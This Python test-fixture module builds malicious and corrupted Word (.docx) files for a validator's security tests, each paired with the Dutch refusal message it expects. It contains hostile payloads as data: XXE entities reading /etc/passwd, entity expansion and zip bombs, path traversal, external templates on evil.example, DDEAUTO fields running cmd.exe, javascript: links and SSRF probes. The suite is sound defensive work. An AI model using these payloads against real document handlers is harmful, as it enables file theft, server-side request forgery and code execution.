"""Hostile and broken Word files, as an attacker or a damaged disk makes them, with what the refusal says.

`CASES` are (kind, make, said): `make(valid_docx)` gives the file, `said` a phrase of its Dutch refusal.
Used for every .docx upload: a note brought back, and a house-style template. Each is made here in a
few lines from a valid file, the way the attacker of security round 3 made them (issue 24).
"""

from __future__ import annotations

import html
import io
import random
import re
import zipfile

from builder.formats.upload import MAX_BYTES


def rezipped(data: bytes, change) -> bytes:
    """The package with `change(parts)` applied to its {name: bytes}."""
    with zipfile.ZipFile(io.BytesIO(data)) as source:
        parts = {i.filename: source.read(i) for i in source.infolist()}
    change(parts)
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as target:
        for name, content in parts.items():
            target.writestr(name, content)
    return buffer.getvalue()


OD = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PICTURE = (
    '<w:r><w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing">'
    '<wp:extent cx="952500" cy="952500"/><wp:docPr id="990" name="Logo"/>'
    '<a:graphic xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main">'
    '<a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture">'
    '<pic:pic xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture">'
    '<pic:nvPicPr><pic:cNvPr id="990" name="Logo"/><pic:cNvPicPr/></pic:nvPicPr>'
    '<pic:blipFill><a:blip xmlns:r="{od}" r:{attribute}="rIdHostile"/><a:stretch><a:fillRect/></a:stretch>'
    '</pic:blipFill><pic:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="952500" cy="952500"/></a:xfrm>'
    '<a:prstGeom prst="rect"/></pic:spPr></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r>'
)


def add_relationship(parts, kind: str, target: str, external: bool = True, rid: str = "rIdHostile") -> None:
    """A relationship of the main document, of any type, to any target."""
    mode = ' TargetMode="External"' if external else ""
    line = f'<Relationship Id="{rid}" Type="{OD}/{kind}" Target="{target}"{mode}/></Relationships>'
    name = "word/_rels/document.xml.rels"
    parts[name] = parts[name].replace(b"</Relationships>", line.encode())


def in_body(parts, xml: str) -> None:
    """`xml` (runs) at the end of the body's first paragraph."""
    document = parts["word/document.xml"]
    start = document.index(b"<w:body>")
    end = document.index(b"</w:p>", start)
    parts["word/document.xml"] = document[:end] + xml.encode() + document[end:]


def linked_picture(kind: str, target: str, attribute: str = "link"):
    """A picture whose image LibreOffice would fetch from `target`, through a relationship of type `kind`."""

    def change(parts):
        add_relationship(parts, kind, target)
        in_body(parts, PICTURE.format(od=OD, attribute=attribute))

    return change


def field(code: str, simple: bool = False):
    """A field with `code`; complex fields split over runs the way Word writes them."""

    def change(parts):
        if simple:
            instruction = html.escape(f" {code} ", quote=True)
            in_body(parts, f'<w:fldSimple w:instr="{instruction}"><w:r><w:t>1</w:t></w:r></w:fldSimple>')
            return
        half = len(code) // 2
        runs = "".join(
            f'<w:r><w:instrText xml:space="preserve">{piece}</w:instrText></w:r>'
            for piece in (" " + code[:half], code[half:] + " ")
        )
        in_body(
            parts,
            f'<w:r><w:fldChar w:fldCharType="begin"/></w:r>{runs}'
            '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>x</w:t></w:r>'
            '<w:r><w:fldChar w:fldCharType="end"/></w:r>',
        )

    return change


def hyperlink(target: str, external: bool = True):
    """A hyperlink (w:hyperlink with a relationship, external as Word writes it or not) to `target`."""

    def change(parts):
        add_relationship(parts, "hyperlink", target, external)
        in_body(parts, f'<w:hyperlink xmlns:r="{OD}" r:id="rIdHostile"><w:r><w:t>klik</w:t></w:r></w:hyperlink>')

    return change


def in_settings(xml: str):
    def change(parts):
        parts["word/settings.xml"] = re.sub(
            rb"(<w:settings[^>]*>)", lambda m: m.group(1) + xml.encode(), parts["word/settings.xml"], count=1
        )

    return change


def with_macro_by_default_type(parts):
    """A vbaProject under a harmless name, declared by extension only."""
    parts["word/ontwerp.bin"] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(
        b"<Default ", b'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/><Default ', 1
    )
    add_relationship(parts, "../../microsoft.com/office/2006/relationships/vbaProject", "ontwerp.bin", False)


def with_embedded_package(parts):
    """An OLE "Package": a whole file inside the document, opened with a double click."""
    parts["word/embeddings/pakket.docx"] = b"PK\x03\x04" + b"\x00" * 200
    add_relationship(parts, "package", "embeddings/pakket.docx", external=False)


def with_custom_xml_doctype(parts):
    parts["customXml/item9.bin"] = b'<?xml version="1.0"?><!DOCTYPE x SYSTEM "http://127.0.0.1:9/x.dtd"><x/>'


def with_upper_case_dtd(parts):
    parts["word/document.XML"] = parts.pop("word/document.xml").replace(
        b"?>", b'?><!DOCTYPE w:document [<!ENTITY e SYSTEM "file:///etc/passwd">]>', 1
    )


def with_deep_nesting(parts):
    parts["customXml/item9.xml"] = b"<a>" * 300 + b"</a>" * 300


def compressible_parts(count: int = 39, size: int = 1_000_000):
    """The stall: many parts of highly compressible XML, a tiny file."""

    def change(parts):
        for n in range(count):
            parts[f"customXml/item{100 + n}.xml"] = b"<a>" + b" " * (size - 7) + b"</a>"

    return change


def many_empty_paragraphs(headers: int = 36, paragraphs: int = 166_000):
    """The memory hog: header parts of empty paragraphs (each compresses a thousandfold)."""

    def change(parts):
        for n in range(headers):
            parts[f"word/header{100 + n}.xml"] = (
                b'<w:hdr xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
                + b"<w:p/>" * paragraphs
                + b"</w:hdr>"
            )

    return change


def many_elements(count: int = 110_000):
    """Elements just under the compression ratio rule: each with a random attribute."""

    def change(parts):
        noise = random.Random(24).randbytes(4 * count).hex()
        body = "".join(f'<w:p w:rsidR="{noise[8 * n : 8 * n + 8]}"/>' for n in range(count))
        parts["word/header100.xml"] = (
            '<w:hdr xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">' + body + "</w:hdr>"
        ).encode()

    return change


SVG_BLIP = (
    '<a:extLst><a:ext uri="{{96DAC541-7B7A-43D3-8B79-37D633B846F1}}">'
    '<asvg:svgBlip xmlns:asvg="http://schemas.microsoft.com/office/drawing/2016/SVG/main" r:embed="rIdSvg"/>'
    "</a:ext></a:extLst>"
)


def svg_logo(svg: str):
    """The header's logo with an SVG version beside its PNG, as Word 2016 and later store it."""

    def change(parts):
        parts["word/media/logo.svg"] = svg.encode()
        rels = "word/_rels/header1.xml.rels"
        line = f'<Relationship Id="rIdSvg" Type="{OD}/image" Target="media/logo.svg"/></Relationships>'
        parts[rels] = parts[rels].replace(b"</Relationships>", line.encode())
        header = parts["word/header1.xml"]
        start = header.index(b"<a:blip ")
        end = header.index(b">", start)
        closed = header[end - 1 : end] == b"/"
        opening = header[start : end - 1 if closed else end] + b">"
        rest = header[end + 1 :] if closed else header[end + 1 :].replace(b"</a:blip>", b"", 1)
        blip = opening + SVG_BLIP.format().encode() + b"</a:blip>"
        parts["word/header1.xml"] = header[:start] + blip + rest
        types = parts["[Content_Types].xml"]
        if b'Extension="svg"' not in types:
            parts["[Content_Types].xml"] = types.replace(
                b"<Default ", b'<Default Extension="svg" ContentType="image/svg+xml"/><Default ', 1
            )

    return change


LOGO_SVG = '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><rect width="10" height="10"/></svg>'


def with_macro(parts):
    parts["word/vbaProject.bin"] = b"\xd0\xcf\x11\xe0 macro"


def with_macro_type(parts):
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(
        b"document.main+xml", b"document.macroEnabled.main+xml"
    )


def with_attached_template(parts):
    parts["word/_rels/settings.xml.rels"] = (
        b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        b'<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        b'attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>'
    )


def with_linked_image(parts):
    parts["word/_rels/document.xml.rels"] = parts["word/_rels/document.xml.rels"].replace(
        b"</Relationships>",
        b'<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" '
        b'Target="\\\\evil.example\\share\\logo.png" TargetMode="External"/></Relationships>',
    )


def with_entities(parts):
    parts["word/document.xml"] = (
        b'<?xml version="1.0"?><!DOCTYPE lol [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;">]>'
        b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">&lol2;</w:document>'
    )


def with_external_entity(parts):
    parts["word/document.xml"] = (
        b'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
        b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">&x;</w:document>'
    )


def with_many_parts(parts):
    for n in range(500):
        parts[f"customXml/extra{n}.xml"] = b"<a/>"


def with_bomb(parts):
    parts["word/media/bom.xml"] = b"<a>" + b"0" * (39 * 1024 * 1024) + b"</a>"


def without_content_types(parts):
    del parts["[Content_Types].xml"]


def with_travelling_name(parts):
    parts["../../etc/cron.d/x"] = b"x"


def a_spreadsheet(parts):
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(
        b"wordprocessingml.document.main+xml", b"spreadsheetml.sheet.main+xml"
    )


CASES = [
    ("empty", lambda d: b"", "leeg"),
    ("not a zip", lambda d: b"%PDF-1.7 dit is geen Word", "geen Word-bestand"),
    ("too large", lambda d: b"x" * (MAX_BYTES + 1), "het maximum is 5 MB"),
    ("macros", lambda d: rezipped(d, with_macro), "macro"),
    ("macro-enabled type", lambda d: rezipped(d, with_macro_type), "macro"),
    ("external template", lambda d: rezipped(d, with_attached_template), "buiten zichzelf"),
    ("linked image", lambda d: rezipped(d, with_linked_image), "buiten zichzelf"),
    ("entities", lambda d: rezipped(d, with_entities), "DTD"),
    ("external entity", lambda d: rezipped(d, with_external_entity), "DTD"),
    ("too many parts", lambda d: rezipped(d, with_many_parts), "te veel onderdelen"),
    ("zip bomb", lambda d: rezipped(d, with_bomb), "samengeperst"),
    ("no content types", lambda d: rezipped(d, without_content_types), "geen Word-bestand"),
    ("path traversal", lambda d: rezipped(d, with_travelling_name), "ongeldige naam"),
    ("a spreadsheet", lambda d: rezipped(d, a_spreadsheet), "geen Word-bestand"),
    ("cut off", lambda d: d[: len(d) // 2], "geen Word-bestand"),
    # security round 3 (issue 24)
    (
        "image fetched through a hyperlink relationship",
        lambda d: rezipped(d, linked_picture("hyperlink", "http://127.0.0.1:9/e2e.png")),
        "van buiten het bestand",
    ),
    (
        "image fetched through a template relationship",
        lambda d: rezipped(d, linked_picture("attachedTemplate", "file:///etc/passwd")),
        "buiten",
    ),
    (
        "image embedded from a hyperlink relationship",
        lambda d: rezipped(d, linked_picture("hyperlink", "http://127.0.0.1:9/beheer/?ssrf-probe=1", "embed")),
        "iets anders dan waarvoor",
    ),
    (
        "image linked outside",
        lambda d: rezipped(d, linked_picture("image", "file:///work/builder/static/favicon.png")),
        "buiten zichzelf",
    ),
    (
        "a frame",
        lambda d: rezipped(
            d, in_settings('<w:frameset><w:frame><w:sourceFileName r:id="rId1"/></w:frame></w:frameset>')
        ),
        "frames",
    ),
    ("vbaProject under another name", lambda d: rezipped(d, with_macro_by_default_type), "macro"),
    ("embedded OLE package", lambda d: rezipped(d, with_embedded_package), "ingesloten"),
    *[
        (f"{code.split()[0]} field", lambda d, c=code: rezipped(d, field(c)), "veld dat iets ophaalt")
        for code in (
            'INCLUDEPICTURE "http://127.0.0.1:9/x.png"',
            'INCLUDETEXT "C:\\\\geheim.docx"',
            'LINK Excel.Sheet.8 "\\\\srv\\x.xls" ""',
            'IMPORT "http://127.0.0.1:9/y.png"',
            'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"',
            "MACROBUTTON Doe iets",
        )
    ],
    (
        "DDE field as a simple field",
        lambda d: rezipped(d, field('DDE "cmd" "/c calc"', simple=True)),
        "veld dat iets ophaalt",
    ),
    ("HYPERLINK field to a file", lambda d: rezipped(d, field('HYPERLINK "file:///etc/passwd"')), "webpagina"),
    *[
        (f"{target.split(':')[0]} link", lambda d, t=target: rezipped(d, hyperlink(t)), "webpagina")
        for target in ("file:///etc/passwd", "\\\\evil.example\\share", "javascript:alert(1)", "java\tscript:x")
    ],
    ("internal link to a file", lambda d: rezipped(d, hyperlink("file:///etc/passwd", external=False)), "webpagina"),
    ("updateFields", lambda d: rezipped(d, in_settings('<w:updateFields w:val="true"/>')), "velden bij te werken"),
    (
        "mail merge",
        lambda d: rezipped(
            d,
            in_settings(
                '<w:mailMerge><w:mainDocumentType w:val="formLetters"/><w:connectString w:val="Provider=x;Data Source='
                '\\\\evil\\x.mdb"/></w:mailMerge>'
            ),
        ),
        "samenvoegen",
    ),
    ("customXml .bin with an external DOCTYPE", lambda d: rezipped(d, with_custom_xml_doctype), "DTD"),
    ("DTD in document.XML", lambda d: rezipped(d, with_upper_case_dtd), "DTD"),
    ("deeply nested XML", lambda d: rezipped(d, with_deep_nesting), "te diep genest"),
    ("39 compressible 1 MB parts", lambda d: rezipped(d, compressible_parts()), "samengeperst"),
    ("36 headers of 166,000 empty paragraphs", lambda d: rezipped(d, many_empty_paragraphs()), "samengeperst"),
    (
        "110,000 elements in one part",
        lambda d: rezipped(d, many_elements()),
        "te veel opmaakelementen",
    ),
]
